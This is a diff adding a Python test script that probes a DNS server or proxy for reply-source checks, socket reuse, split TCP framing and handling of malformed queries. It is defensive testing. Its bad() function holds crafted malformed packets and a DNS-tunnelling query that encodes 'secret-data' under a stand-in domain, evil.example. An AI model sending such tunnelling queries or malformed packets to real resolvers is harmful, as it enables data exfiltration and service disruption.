@@ -1,0 +1,95 @@
+# SPDX-License-Identifier: Apache-2.0
+# What a program sees that talks to the DNS itself. Prints one line for each thing that is as it should be.
+import socket
+import struct
+import sys
+
+SERVER = ("203.0.113.53", 53)
+
+
+def question(name, number=7, kind=1, tail=b""):
+    wire = b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0"
+    return struct.pack(">6H", number, 0x100, 1, 0, 0, 0) + wire + struct.pack(">HH", kind, 1) + tail
+
+
+def udp():
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.settimeout(5)
+    return s
+
+
+def rcode(answer):
+    return answer[3] & 15
+
+
+def sources():
+    s = udp()
+    s.sendto(question("good.example"), SERVER)
+    answer, source = s.recvfrom(512)
+    print("unconnected", source == SERVER, rcode(answer), answer[:2] == b"\0\7")
+    s = udp()
+    s.connect(("9.9.9.9", 53))
+    s.send(question("GOOD.eXample"))
+    answer, source = s.recvfrom(512)
+    print("connected", source == s.getpeername() == ("9.9.9.9", 53), b"\4GOOD\7eXample" in answer)
+    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
+    s.settimeout(5)
+    s.sendto(question("good.example"), ("::ffff:203.0.113.53", 53))
+    print("mapped", s.recvfrom(512)[1][0] == "::ffff:203.0.113.53")
+    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
+    s.settimeout(5)
+    s.sendto(question("good.example"), ("2001:db8::53", 53))
+    print("six", s.recvfrom(512)[1][:2] == ("2001:db8::53", 53))
+
+
+def again():
+    """A socket that asked, and is then used for something else."""
+    s = udp()
+    s.connect(SERVER)
+    s.send(question("good.example"))
+    s.recv(512)
+    other = udp()
+    other.bind(("127.0.0.1", 0))
+    try:
+        s.connect(("198.51.100.2", 5353))
+        print("went to another address")
+    except PermissionError:
+        print("another address is refused")
+    s.connect(other.getsockname())
+    s.send(b"x")
+    print("elsewhere", other.recv(10))
+    s.sendto(question("good.example"), SERVER)
+    print("and back", s.recvfrom(512)[1] == SERVER)
+
+
+def stream():
+    s = socket.create_connection(SERVER, 5)
+    q = question("good.example")
+    for piece in (struct.pack(">H", len(q))[:1], struct.pack(">H", len(q))[1:] + q[:5], q[5:]):
+        s.sendall(piece)
+    answer = s.recv(512)
+    print("stream", rcode(answer[2:]), s.getpeername() == SERVER)
+
+
+def bad():
+    """What is no question gets an error or nothing, and the next one its answer."""
+    messages = [b"", b"x", b"\0" * 12, question("good.example")[:-1], question("good.example", tail=b"x"),
+                struct.pack(">6H", 1, 0x100, 1, 0, 0, 0) + b"\xc0\x0c\0\1\0\1",
+                struct.pack(">6H", 1, 0x100, 65535, 65535, 65535, 65535) + b"\xff" * 400]
+    for m in messages:
+        s = udp()
+        s.settimeout(0.2)
+        s.sendto(m, SERVER)
+        try:
+            assert rcode(s.recv(512)) in (1, 4)
+        except TimeoutError:
+            pass
+    s = udp()
+    s.sendto(question("good.example"), SERVER)
+    print("good", rcode(s.recv(512)))
+    s.sendto(question("secret-data-0123456789.evil.example", kind=16), SERVER)
+    print("tunnel", rcode(s.recv(512)))
+
+
+for what in sys.argv[1:]:
+    globals()[what]()
